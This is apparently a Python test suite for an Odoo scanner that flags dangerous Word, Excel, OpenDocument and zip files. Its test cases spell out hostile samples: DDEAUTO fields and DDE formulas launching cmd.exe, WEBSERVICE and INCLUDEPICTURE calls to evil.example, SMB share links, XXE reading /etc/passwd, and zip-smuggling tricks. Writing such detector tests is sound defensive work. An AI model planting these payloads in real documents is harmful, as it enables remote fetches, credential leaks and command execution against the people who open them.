"""Documents and archives from outside: what they would run or fetch, under whatever name it comes."""

import io
import struct
import time
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st

from odoo.tests import tagged

from ...tools.file_links import is_fetched_from_elsewhere, is_harmless_link
from ..common.file_check_case import QUICK, FileCase
from ..common.file_samples import ODF_NAMES, OOXML, docx, odf, office, packed, relations, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PE = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(300)
LINK = b"L\0\0\0\x01\x14\x02\0" + bytes(60)
PROGRAMS = (
    OLE,
    PE,
    LINK,
    b"\x7fELF" + bytes(60),
    b"{\\rtf1 x}",
    b"%PDF-1.4 x",
    b"MIME-Version: 1.0\n\n<html>",
)
SHARE = "\\\\10.0.0.1\\share\\a.dotm"
CELL = '<table:table-cell table:formula="of:'
XFORMS = 'xmlns:xf="http://www.w3.org/2002/xforms"'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body):
    """Return a document with ``body`` in the language of Word."""
    return docx(
        word__document__xml="", **{"word/document.xml": f'<w:document xmlns:w="{WORD}">{body}</w:document>'}
    )


def field(*instructions):
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def deleted(body):
    """Return a part of a text as Word keeps what was deleted while changes are tracked."""
    return f"<w:del>{body.replace('instrText', 'delInstrText')}</w:del>"


def writer(body, more=None):
    """Return a text of OpenDocument with ``body``."""
    return odf(
        "text",
        {"content.xml": f"<o:document-content {ODF_NAMES}>{body}</o:document-content>", **(more or {})},
    )


@tagged("post_install", "-at_install")
class TestLinks(FileCase):
    def test_links(self):
        """A click opens pages, mails and documents; no program, and nothing on a named computer."""
        for target in (
            "https://customs.example/a?b=1#c",
            "http://x",
            "mailto:a@b.rs?subject=x",
            "tel:+381",
            "www.firma.rs",
            "other.xlsx",
            "../folder/other.docx",
            "#Sheet2!A1",
            "file:///C:/Users/Ivan/list.xlsx",
            "C:\\list.docx",
            "",
        ):
            self.assertTrue(is_harmless_link(target), target)
        for target in (
            SHARE,
            "//10.0.0.1/share/x",
            "file://10.0.0.1/share/x",
            "file:////10.0.0.1/share/x",
            "file:///\\\\10.0.0.1\\x",
            "file:%5C%5C10.0.0.1%5Cx",
            "\u200b\\\\h\\x",
            "javascript:alert(1)",
            "ms-word:ofe|u|https://evil.example/a.docm",
            "search-ms:query=x",
            "file:///C:/Windows/System32/calc.exe",
            "tools\\run.lnk",
            "vbscript:x",
            "smb://h/x",
        ):
            self.assertFalse(is_harmless_link(target), target)

    def test_fetched(self):
        """What a program fetches by itself lies in the document or on the reader's own disk."""
        for target in (
            "media/image1.png",
            "../a.png",
            "file:///C:/x/Normal.dotm",
            "C:\\a.png",
            "cid:image1@x",
            "data:x",
        ):
            self.assertFalse(is_fetched_from_elsewhere(target), target)
        for target in (
            "https://evil.example/a.dotm",
            SHARE,
            "file://h/a",
            "//h/a",
            "http:\\\\h\\a",
            "mhtml:http://h/a!x",
        ):
            self.assertTrue(is_fetched_from_elsewhere(target), target)


@tagged("post_install", "-at_install")
class TestWordAndExcel(FileCase):
    def test_relations_to_elsewhere(self):
        """What a program fetches when it opens a document: templates, frames, pictures, other books."""
        for kind in (
            "attachedTemplate",
            "image",
            "frame",
            "subDocument",
            "externalLinkPath",
            "video",
            "unheard",
        ):
            for target in ("https://evil.example/a", SHARE, "file://10.0.0.1/a"):
                for marked in (True, False):
                    part = {"word/_rels/settings.xml.rels": relations((kind, target, marked))}
                    with self.subTest(kind=kind, target=target):
                        self.assert_codes("a.docx", docx(**part), "fetches")
            local = {"word/_rels/settings.xml.rels": relations((kind, "file:///C:/Office/Normal.dotm", True))}
            self.assert_codes("a.docx", docx(**local))
        for kind in ("mailMergeSource", "connections", "queryTable"):
            part = {"xl/_rels/workbook.xml.rels": relations((kind, "a.xml", False))}
            self.assert_codes("a.xlsx", xlsx(part), "fetches")
        for kind, target, codes in (
            ("oleObject", "https://evil.example/a", ["object"]),
            ("oleObject", "embeddings/a.txt", ["object"]),
            ("aFChunk", "a.txt", ["object"]),
            ("control", "a.xml", ["object"]),
            ("vbaProject", "a.txt", ["macros"]),
            ("xlMacrosheet", "a.xml", ["macros"]),
            ("ui/extensibility", "customUI.xml", ["object"]),
            ("hyperlink", SHARE, ["link"]),
            ("hyperlink", "https://customs.example/", []),
        ):
            with self.subTest(kind=kind, target=target):
                part = {"word/_rels/document.xml.rels": relations((kind, target, ":" in target))}
                self.assert_codes("a.docx", docx(**part), *codes)

    def test_types_of_parts(self):
        """A part is what its type says, whatever its name is."""
        for kind, code in (
            ("application/vnd.ms-office.vbaProject", "macros"),
            ("application/vnd.ms-word.vbaData+xml", "macros"),
            ("application/vnd.ms-excel.macrosheet+xml", "macros"),
            ("application/vnd.ms-excel.intlmacrosheet+xml", "macros"),
            ("application/vnd.ms-word.document.macroEnabled.main+xml", "macros"),
            ("application/vnd.ms-office.activeX+xml", "object"),
            (OOXML + "oleObject", "object"),
            ("application/vnd.ms-office.webextension+xml", "object"),
            ("application/vnd.ms-word.attachedToolbars+xml", "object"),
            ("application/xhtml+xml", "object"),
            ("application/msword", "object"),
            ("message/rfc822", "object"),
            (OOXML + "spreadsheetml.connections+xml", "fetches"),
            (OOXML + "spreadsheetml.queryTable+xml", "fetches"),
        ):
            with self.subTest(kind=kind):
                part, main = (
                    {"word/notes.xml": "<x/>"},
                    ("word/document.xml", "wordprocessingml.document.main+xml"),
                )
                named = office(*main, part, types={"/Word/Notes.XML": kind})
                self.assert_codes("a.docx", named, code)
                by_extension = office(*main, {"word/notes.dat": "x"}, defaults={"DAT": kind})
                self.assert_codes("a.docx", by_extension, code)

    def test_programs_under_other_names(self):
        """Objects and programs are known by how they begin."""
        for program in PROGRAMS:
            for name in ("word/media/image1.png", "word/embeddings/book.dat", "x", "docProps/app.xml"):
                with self.subTest(program=program[:8], name=name):
                    self.assert_codes("a.docx", docx(**{name: program}), "object")
            self.assert_codes("a.odt", odf("text", {"Pictures/1.png": program}), "object")
        self.assert_codes("a.docx", docx(**{"word/media/a.png": packed({"a.txt": "x"})}), "object")
        self.assert_codes("a.docx", docx(**{"word/fonts/font1.odttf": b"MZ" + bytes(range(200))}))
        self.assert_codes("a.docx", docx(**{"word/media/image1.emz": b"\x1f\x8b\x08" + bytes(50)}))

    def test_main_part(self):
        """The part that is opened is the one that the relations name, and of the type that the name says."""
        main = ("word/document.xml", "wordprocessingml.document.main+xml")
        for content in (
            office("word/document.xml", "wordprocessingml.template.main+xml"),
            office("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
            office(*main, {"_rels/.rels": relations()}),
            office(*main, {"_rels/.rels": relations(("officeDocument", "word/other.xml", False))}),
            office(*main, {"_rels/.rels": relations(("officeDocument", "https://evil.example/a", True))}),
            office(*main, {"_rels/.rels": "<r"}),
            office(*main, {"[Content_Types].xml": "<Types"}),
            office(
                *main, types={"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
            ),
        ):
            self.assert_codes("a.docx", content, "content")

    def test_fields(self):
        """Fields of Word that fetch or run, in pieces, in each other, in short; those that only show."""
        for body in (
            field("DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"),
            field(" D", "DE", "AUTO x"),
            field("dde x y"),
            field("INCLUDETEXT &quot;https://evil.example/a.docx&quot;"),
            field("INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d"),
            field("INCLUDEPICTURE &quot;\\\\\\\\10.0.0.1\\\\a.png&quot;"),
            field("INCLUDEPICTURE \\d &quot;https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE \\c PNG32 &quot;https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE \\* MERGEFORMATINET https://evil.example/a.png"),
            field("INCLUDEPICTURE a.png &quot;https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE &quot;&quot; &quot;https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE&quot;https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE \u201chttps://evil.example/a.png\u201d"),
            field("INCLUDEPICTURE &quot;a\\&quot; https://evil.example/a.png&quot;"),
            field("INCLUDEPICTURE &quot;https://evil.example/a.png"),
            deleted(field("INCLUDETEXT &quot;https://evil.example&quot;")),
            deleted(field("INCLUDE", "TEXT &quot;https://evil.example&quot;")),
            field("LINK Excel.Sheet.12 &quot;\\\\\\\\h\\\\a.xlsx&quot;"),
            field("IMPORT x"),
            field("DATABASE \\c &quot;x&quot;"),
            field("CONTROL Forms.HTML:Hidden.1"),
            field("RD &quot;x&quot;"),
            '<w:fldSimple w:instr="DDEAUTO cmd x"/>',
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field("QUOTE 68 68 69")
            + '<w:r><w:instrText> cmd x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
            "<w:r><w:instrText>DDE x</w:instrText></w:r>",
        ):
            with self.subTest(body=body):
                self.assert_codes("a.docx", word(body), "fetches")
        for instruction in (
            "HYPERLINK &quot;\\\\\\\\10.0.0.1\\\\share&quot;",
            "HYPERLINK \\t &quot;_b&quot; &quot;file://10.0.0.1/a.exe&quot;",
            "HYPERLINK \\n &quot;file://10.0.0.1/a.exe&quot;",
            "HYPERLINK \\l &quot;a&quot; \\m file://10.0.0.1/a.exe",
            "HYPERLINK \\o &quot;file://10.0.0.1/a&quot;",
            "HYPERLINK &quot;https://customs.example&quot; \\n &quot;ms-word:ofe|u|x&quot;",
            "HYPERLINK\u201cfile://10.0.0.1/a\u201d",
        ):
            with self.subTest(instruction=instruction):
                self.assert_codes("a.docx", word(field(instruction)), "link")
                self.assert_codes("a.docx", word(deleted(field(instruction))), "link")
        for instruction in (
            "PAGE \\* MERGEFORMAT",
            " TOC \\o &quot;1-3&quot; \\h",
            "HYPERLINK &quot;https://customs.example&quot;",
            "HYPERLINK \\l &quot;_Toc1&quot;",
            "= 1 + 2",
            "=SUM(ABOVE)",
            "MERGEFIELD Name",
            "FORMTEXT ",
            "ADDIN ZOTERO_ITEM CSL_CITATION {}",
            "INCLUDEPICTURE &quot;cid:image1.png@1&quot;",
            "INCLUDEPICTURE \\d &quot;C:\\\\My pictures\\\\a.png&quot; \\* MERGEFORMATINET",
            "INCLUDEPICTURE &quot;C:\\Users\\Ivan\\a.png&quot;",
            "HYPERLINK &quot;https://a.example&quot; \\o &quot;Title: page&quot; \\t &quot;_blank&quot;",
            "HYPERLINK &quot;mailto:a@b.rs?subject=x&quot;",
            "HYPERLINK &quot;C:\\\\list.docx&quot; \\l &quot;place&quot;",
            "",
        ):
            with self.subTest(instruction=instruction):
                self.assert_codes("a.docx", word(field(instruction)))
        for body in (
            deleted(field(" PAGE ")),
            # One field in the place of another, as Word notes it.
            field("PAGE").replace("instrText", "delInstrText")[: -len(END)]
            + f"<w:ins><w:r><w:instrText>NUMPAGES</w:instrText></w:r></w:ins>{END}",
        ):
            self.assert_codes("a.docx", word(body))
        nested = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
        nested += field("MERGEFIELD a") + "<w:r><w:instrText> = 1</w:instrText></w:r>"
        self.assert_codes("a.docx", word(nested + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))

    def test_formulas(self):
        """Formulas that ask another computer or a program; words that only look like them."""
        for formula in (
            "_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)",
            "&#87;EBSERVICE(A1)",
            "_xlfn.IMAGE(A1)",
            "RTD(&quot;x&quot;,,&quot;y&quot;)",
            "cmd|'/c calc'!A0",
            "1+CALL(&quot;urlmon&quot;)",
            "'a&quot;b'!A1&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
            "'a&quot;b'!A1+cmd|'/c calc'!A0&amp;&quot;x&quot;",
            "'it''s &quot;b'!A1&amp;WEBSERVICE(A1)&amp;&quot;x&quot;",
            "T[a&quot;b]&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
            "T[a']&quot;b]&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
            "&quot;a&quot;&quot;&quot;&amp;WEBSERVICE(&quot;https://evil.example/&quot;)",
            "&quot;a&amp;WEBSERVICE(A1)",
            "'cmd'|'/c calc'!A0",
            "кмд|'/c calc'!A0",
            "cmd | '/c calc' ! A0",
            "..\\..\\cmd.exe|'/c calc'!A0",
            "WEBSERVICE (A1)",
            "_xlfn._xlws.PY(0,1)",
            "_xlfn.STOCKHISTORY(A1)",
            "_xlfn.UNHEARDOF(A1)",
            "'https://evil.example/[a.xlsx]A'!A1",
            "'\\\\10.0.0.1\\share\\[a.xlsx]A'!A1",
            "INDIRECT(&quot;'file://10.0.0.1/a.ods'#$A.A1&quot;)",
            "A1&amp;" * 60_000 + "A1",
        ):
            for name in ("f", "definedName", "formula1", "totalsRowFormula"):
                sheet = {"xl/worksheets/sheet1.xml": f"<sheet><{name}>{formula}</{name}></sheet>"}
                with self.subTest(formula=formula, name=name):
                    self.assert_codes("a.xlsx", xlsx(sheet), "fetches")
        for formula in (
            "SUM(A1:B2)",
            "A1&amp;&quot;|&quot;&amp;'a|b'!B1",
            "&quot;WEBSERVICE(&quot;",
            "HYPERLINK(A1)",
            "[1]Sheet1!A1",
            "'it''s &quot;x'!A1&amp;&quot;WEBSERVICE(&quot;",
            "'Jan:Mar 2026'!A1",
            "'[1]C&quot;D'!A1",
            "T[[#This Row],[Price | EUR (&quot;net&quot;)]]*T[IMAGE (x)]",
            "_xlfn._xlws.FILTER(A1:A9,A1:A9&gt;1)+_xlfn.XLOOKUP(A1,B1:B9,C1:C9)",
            "_xlfn.LET(_xlpm.x,1,_xlpm.x)",
            "СуммаПрописью(A1)",
            "IF(A1=&quot;x&quot;,INDIRECT(&quot;'Sheet 2'!A1&quot;),1/2)",
            "MYIMAGE(A1)",
            "HYPERLINK(&quot;https://customs.example/?q=&quot;&amp;A1,&quot;see: page&quot;)",
            "HYPERLINK(&quot;#'it''s a &quot;&quot;b&quot;&quot;'!A1&quot;,&quot;go&quot;)",
            "HYPERLINK(&quot;#A&quot;&amp;MATCH(&quot;Total:&quot;,A:A,0),&quot;file://x&quot;)",
            "HYPERLINK(&quot;mailto:&quot;&amp;A1)",
            "HYPERLINK(&quot;C:\\list.xlsx&quot;)",
        ):
            sheet = {"xl/worksheets/sheet1.xml": f"<sheet><f>{formula}</f><v>WEBSERVICE(1)</v></sheet>"}
            self.assert_codes("a.xlsx", xlsx(sheet))
        for formula in (
            "HYPERLINK(&quot;file://10.0.0.1/a.exe&quot;,&quot;a&quot;)",
            "HYPERLINK(&quot;f&quot;&amp;&quot;ile://10.0.0.1/a&quot;)",
            "HYPERLINK(&quot;\\\\10.0.0.1\\a&quot;)",
            "HYPERLINK(A1&amp;&quot;\\a.exe&quot;)",
            "HYPERLINK(&quot;search-ms:query=x&quot;,1)",
            "IF(A1,HYPERLINK(IF(B1,&quot;x&quot;,&quot;file://10.0.0.1/a&quot;)),2)",
            "'a&quot;b'!A1&amp;HYPERLINK(&quot;javascript:x&quot;)",
        ):
            sheet = {"xl/worksheets/sheet1.xml": f"<sheet><f>{formula}</f></sheet>"}
            with self.subTest(formula=formula):
                self.assert_codes("a.xlsx", xlsx(sheet), "link")
        for body in (
            "<cfvo type='formula' val='WEBSERVICE(A1)'/>",
            "<cacheField formula='WEBSERVICE(A1)'/>",
            "<calculatedItem formula='WEBSERVICE(A1)'/>",
        ):
            self.assert_codes("a.xlsx", xlsx({"xl/worksheets/sheet1.xml": f"<x>{body}</x>"}), "fetches")
        fraction = '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">%s</m:f>'
        self.assert_codes("a.docx", word(fraction % (fraction % "|x|")))
        nested = {"xl/worksheets/sheet1.xml": "<sheet><f>WEBSERV<f>1</f>ICE(A1)</f></sheet>"}
        self.assert_codes("a.xlsx", xlsx(nested), "unreadable")
        for body in ("<ddeLink ddeService='cmd'/>", "<oleLink/>", "<dbPr connection='x'/>"):
            part = {"xl/externalLinks/externalLink1.xml": f"<externalLink>{body}</externalLink>"}
            self.assert_codes("a.xlsx", xlsx(part), "fetches")

    def test_drawings(self):
        """Pictures that a drawing names by itself; a drawing of Excel that is no XML."""
        names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
        for content, codes in (
            (f'<xml {names}><v:imagedata src="https://evil.example/a.png"/></xml>', ["fetches"]),
            (f'<xml {names}><v:shape><br><v:imagedata src="{SHARE}"/></v:shape></xml>', ["fetches"]),
            (f'<xml {names}><v:shape href="{SHARE}"/></xml>', ["link"]),
            (f'<xml {names}><v:rect href="https://customs.example/"/></xml>', []),
            (f'<xml {names}><o:OLEObject Type="Link" ProgID="x"/></xml>', ["fetches"]),
            (f"<xml {names}><v:shape><br>text</v:shape></xml>", []),
        ):
            self.assert_codes("a.xlsx", xlsx({"xl/drawings/vmlDrawing1.vml": content}), *codes)
        svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">%s</svg>'
        for body, codes in (
            ("<script>x</script>", ["object"]),
            ('<image l:href="https://evil.example/a.png"/>', ["fetches"]),
            ('<use l:href="https://evil.example/a.svg#b"/>', ["fetches"]),
            ('<image l:href="data:image/png;base64,xx"/><rect fill="red"/>', []),
        ):
            self.assert_codes("a.docx", docx(**{"word/media/image1.svg": svg % body}), *codes)

    def test_xml(self):
        """No entities, no depth without end, nothing that a reader of XML cannot read."""
        entity = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
        outside = '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
        for content in (entity, outside, "<x>" * 2000 + "</x>" * 2000, "<x><y></x>", "\ufeff<x"):
            self.assert_codes("a.docx", docx(**{"word/styles.xml": content}), "unreadable")
            self.assert_codes(
                "a.odt", odf("text", {"styles.xml": content}), *([] if content == outside else ["unreadable"])
            )
        wide = "<x>" + "<y/>" * 200_000 + "</x>"
        begun = time.monotonic()
        self.assert_codes("a.docx", docx(**{"word/styles.xml": wide.encode("utf-16")}))
        self.assertLess(time.monotonic() - begun, 10)


@tagged("post_install", "-at_install")
class TestOpenDocument(FileCase):
    def test_what_runs(self):
        """Scripts, event listeners, applets, objects, frames."""
        for body, code in (
            ('<o:scripts><o:script s:language="ooo:Basic"/></o:scripts>', "macros"),
            ('<o:event-listeners><s:event-listener s:event-name="dom:load"/></o:event-listeners>', "macros"),
            ('<t:a x:href="vnd.sun.star.script:a.b?language=Python"/>', "macros"),
            ('<t:a x:href="macro:///Standard.M.Main"/>', "macros"),
            ('<form:button form:x="vnd.sun.star.script:a"/>', "macros"),
            ('<d:object-ole x:href="./Object 1"/>', "object"),
            ('<d:applet x:href="./a"/>', "object"),
            ('<d:plugin x:href="./a"/>', "object"),
            ('<d:floating-frame x:href="https://evil.example"/>', "fetches"),
            ('<d:image x:href="https://evil.example/a.png"/>', "fetches"),
            (f'<d:image x:href="{SHARE}"/>', "fetches"),
            ('<t:section-source x:href="https://evil.example/a.odt"/>', "fetches"),
            ('<table:table-source x:href="file://10.0.0.1/a.ods"/>', "fetches"),
            ('<o:dde-source o:dde-application="soffice"/>', "fetches"),
            ("<t:dde-connection-decl/>", "fetches"),
            ('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x&quot;)"/>', "fetches"),
            ('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;1;2)"/>', "fetches"),
            ("<table:table-cell table:formula=\"of:='file://10.0.0.1/a.ods'#$A.A1\"/>", "fetches"),
            (f"{CELL}=[.'a&quot;b'.A1]&amp;WEBSERVICE(&quot;https://x&quot;)\"/>", "fetches"),
            (f"{CELL}=[$'a&quot;b'.A1]&amp;DDE(&quot;soffice&quot;;1;2)\"/>", "fetches"),
            (f"{CELL}=[.'a&quot;b'.A1]&amp;['https://x/a.ods'#$A.A1]&amp;&quot;x&quot;\"/>", "fetches"),
            (f"{CELL}=[.'a&quot;b'.A1]+cmd|'/c calc'!A0&amp;&quot;x&quot;\"/>", "fetches"),
            (f'{CELL}=COM.MICROSOFT.WEBSERVICE([.A1])"/>', "fetches"),
            (f'{CELL}=HYPERLINK(&quot;file://10.0.0.1/a.exe&quot;)"/>', "link"),
            ('<table:condition table:value="formula-is(WEBSERVICE(A1))"/>', "fetches"),
            ("<d:x d:values-cell-range-address=\"'https://x/a.ods'#$A.A1\"/>", "fetches"),
            ('<xf:instance src="https://evil.example/a.xml"/>', "fetches"),
            ('<xf:instance resource="file://10.0.0.1/a.xml"/>', "fetches"),
            ('<xf:submission action="https://evil.example/"/>', "fetches"),
            ('<xf:submission action="mailto:a@evil.example"/>', "fetches"),
            ('<xf:model schema="https://evil.example/a.xsd"/>', "fetches"),
            ('<form:form form:datasource="file:///C:/a.odb" form:command="SELECT 1"/>', "fetches"),
            ('<form:form form:datasource="/home/a.odb"/>', "fetches"),
            ('<t:database-display t:database-name="https://evil.example/a.odb"/>', "fetches"),
            ('<d:frame d:unheard="https://evil.example/a"/>', "fetches"),
            (f'<d:frame d:unheard="{SHARE}"/>', "fetches"),
            ('<t:bibliography-mark t:url="file://10.0.0.1/a"/>', "link"),
            ('<form:connection-resource x:href="sdbc:x"/>', "fetches"),
            ('<t:a x:href="file://10.0.0.1/a"/>', "link"),
            ('<form:form x:href="javascript:x"/>', "macros"),
            ('<form:form x:href="file:///C:/a.exe"/>', "link"),
        ):
            for name in ("content.xml", "Object 1/content.xml", "styles.xml"):
                part = {name: f"<o:document-content {ODF_NAMES} {XFORMS}>{body}</o:document-content>"}
                with self.subTest(body=body, name=name):
                    self.assert_codes("a.odt", odf("text", part), code)

    def test_parts(self):
        """Macros by folder, in any case, and by what the manifest calls them."""
        for name in (
            "Basic/Standard/M.xml",
            "basic/x",
            "Scripts/python/a.txt",
            "Dialogs/x.xml",
            "Object 1/Scripts/x",
        ):
            self.assert_codes("a.odt", odf("text", {name: "<x/>"}), "macros")
        self.assert_codes("a.odt", odf("text", {"META-INF/macrosignatures.xml": "<x/>"}), "macros")
        for media, code in (
            ("application/vnd.sun.star.oleobject", "object"),
            ("text/javascript", "macros"),
            ("application/x-java-archive", "macros"),
        ):
            entry = f'<m:file-entry m:full-path="a" m:media-type="{media}"/>'
            manifest = {"META-INF/manifest.xml": f"<m:manifest {ODF_NAMES}>{entry}</m:manifest>"}
            self.assert_codes("a.odt", odf("text", manifest), code)

    def test_ordinary(self):
        """What LibreOffice writes into every document, links to pages, pictures, charts."""
        self.assert_codes(
            "a.odt",
            writer(
                '<o:scripts/><t:a x:href="https://customs.example/x?y=(1)">a</t:a>'
                '<t:a x:href="mailto:a@b.rs"/><d:image x:href="../a.png"/>'
                '<d:image x:href="Pictures/1.png"/><d:object x:href="./Object 1"/>'
                '<form:form x:href="" form:control-implementation="ooo:com.sun.star.form.component.Form"/>',
                {"Configurations2/accelerator/current.xml": "", "Pictures/1.png": b"\x89PNG"},
            ),
        )
        for body in (
            f"{CELL}=[.'it''s a &quot;b'.A1]&amp;&quot;WEBSERVICE(&quot;\"/>",
            f'{CELL}={{1;2|3;4}}"/>',
            f'{CELL}=HYPERLINK(&quot;https://customs.example&quot;;&quot;a: b&quot;)"/>',
            f"{CELL}='file:///C:/a.ods'#$A.A1\"/>",
            '<table:table-cell table:formula="ooow:sum &lt;A1:B2&gt; | 5"/>',
            '<table:table-cell o:string-value="https://customs.example/"/>',
            '<d:frame d:name="https://customs.example/a.png" d:style-name="a:b"/>',
            '<form:text form:value="https://customs.example" form:label="a|b (c)"/>',
            '<form:form form:datasource="Bibliography" form:command="biblio"/>',
            '<form:form form:datasource="" x:href="https://customs.example/send"/>',
            '<xf:instance src="#a"/>',
            '<t:bibliography-mark t:url="https://customs.example" t:title="A: b"/>',
            '<x g:transformation="http://docs.oasis-open.org/odf2rdf.xsl" '
            'xmlns:g="http://www.w3.org/2003/g/data-view#"/>',
            '<x r:resource="http://docs.oasis-open.org/meta/odf#ContentFile" '
            'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
        ):
            with self.subTest(body=body):
                part = f"<o:document-content {ODF_NAMES} {XFORMS}>{body}</o:document-content>"
                self.assert_codes("a.odt", odf("text", {"content.xml": part}))
        old = '<!DOCTYPE m:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
        self.assert_codes("a.odt", writer("", {"META-INF/manifest.xml": f"{old}<m:manifest {ODF_NAMES}/>"}))


@tagged("post_install", "-at_install")
class TestArchiveLayout(FileCase):
    def test_rest_of_macos(self):
        """macOS adds files of attributes: they are known by what they are, not by their folder."""
        for name in (
            "__MACOSX/evil.exe",
            "__MACOSX/a.lnk",
            "__MACOSX/._evil.exe",
            "a/._run.lnk",
            "b/.DS_Store.exe",
        ):
            self.assertIn("type", self.codes("a.zip", packed({"a.txt": "x", name: PE})))
        for name in ("__MACOSX/._a.txt", "__MACOSX/b/._a.pdf", ".DS_Store", "__MACOSX/.DS_Store"):
            self.assertTrue(self.codes("a.zip", packed({"a.txt": "x", name: PE})), name)
        self.assert_codes(
            "a.zip",
            packed(
                {
                    "a.txt": "x",
                    "__MACOSX/._a.txt": b"\0\5\x16\7\0\2\0\0Mac OS X",
                    ".DS_Store": b"\0\0\0\1Bud1\0",
                }
            ),
        )

    def test_what_lies_inside(self):
        """Shortcuts, programs, other archives, and folders that are files."""
        for name in ("a.lnk", "a.url", "a.scr", "a.js", "a.html", "a"):
            self.assertIn("type", self.codes("a.zip", packed({"b.txt": "x", name: LINK})))
        for name in ("a.pdf", "a.png", "a.docx"):
            self.assertIn("content", self.codes("a.zip", packed({name: PE})))
        self.assertIn("zip_nested", self.codes("a.zip", packed({"b.zip": packed({"a.txt": "x"})})))
        self.assertIn("content", self.codes("a.zip", packed({"b.txt": packed({"a.txt": "x"})})))
        folder = packed({"a.txt": "x"})
        stream = io.BytesIO(folder)
        with zipfile.ZipFile(stream, "a") as archive:
            archive.writestr(zipfile.ZipInfo("evil.exe/"), PE)
        self.assertIn("zip_path", self.codes("a.zip", stream.getvalue()))

    def test_twins(self):
        """Names that are one file where they are unpacked."""
        for other in ("A.TXT", "./a.txt", "b/../a.txt", "a.txt.", "a.txt ", ".//a.txt"):
            codes = self.codes("a.zip", packed({"a.txt": "x", other: "y"}))
            self.assertTrue({"zip_twice", "zip_path"} & set(codes), (other, codes))

    def test_two_tables(self):
        """Heads that say something else than the table; bytes before, between and behind the files."""
        content = packed({"a.txt": "text " * 9, "b.txt": "more"})
        for changed in (
            content.replace(b"a.txt", b"a.exe", 1),
            content.replace(
                struct.pack("<H", zipfile.ZIP_DEFLATED), struct.pack("<H", zipfile.ZIP_STORED), 1
            ),
            content + b"x",
            content + packed({"c.exe": PE}),
            b"PK\x03\x04" + content,
            packed({"c.exe": PE}) + content,
        ):
            self.assertTrue(self.codes("a.zip", changed))
        middle = content.index(b"PK\x03\x04", 4)
        hidden = packed({"c.exe": PE})
        hidden = hidden[: hidden.index(b"PK\x01\x02")]
        shifted = bytearray(content[:middle] + hidden + content[middle:])
        table = shifted.index(b"PK\x01\x02")
        second = shifted.index(b"PK\x01\x02", table + 4)
        struct.pack_into("<L", shifted, second + 42, middle + len(hidden))
        struct.pack_into("<L", shifted, shifted.rindex(b"PK\x05\x06") + 16, table)
        with zipfile.ZipFile(io.BytesIO(bytes(shifted))) as archive:
            self.assertEqual(archive.read("b.txt"), b"more")
        self.assert_codes("a.zip", bytes(shifted), "zip_broken")

    def test_sizes_behind(self):
        """Programs that write without looking back put the sizes behind each file."""

        class Pipe(io.RawIOBase):
            def __init__(self):
                self.parts = []

            def writable(self):
                return True

            def write(self, part):  # pylint: disable=method-required-super
                self.parts.append(bytes(part))
                return len(part)

        pipe = Pipe()
        with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.txt", "one")
            archive.writestr("b.txt", "two")
        self.assert_codes("a.zip", b"".join(pipe.parts))

    def test_name_in_unicode(self):
        """A second name of a file, which other programs read, is of the same type and leads nowhere."""
        for name, is_taken in (("письмо.txt", True), ("evil.exe", False), ("../a.txt", False)):
            stream = io.BytesIO()
            with zipfile.ZipFile(stream, "w") as archive:
                entry = zipfile.ZipInfo("letter.txt")
                text = b"\1" + bytes(4) + name.encode()
                entry.extra = struct.pack("<HH", 0x7075, len(text)) + text
                archive.writestr(entry, "x")
            self.assertEqual(not self.codes("a.zip", stream.getvalue()), is_taken, name)

    @settings(QUICK, max_examples=150)
    @given(
        st.sampled_from([docx(), xlsx(), odf("text"), packed({"a.txt": "text", "b/c.csv": "1;2"})]),
        st.lists(st.tuples(st.integers(0, 10_000), st.binary(min_size=1, max_size=6)), max_size=4),
    )
    def test_damaged(self, content, changes):
        """Bytes changed: an answer, and never a traceback."""
        content = bytearray(content)
        for place, new in changes:
            begin = place % len(content)
            content[begin : begin + len(new)] = new
        for name in ("a.docx", "a.xlsx", "a.odt", "a.zip"):
            self.codes(name, bytes(content))
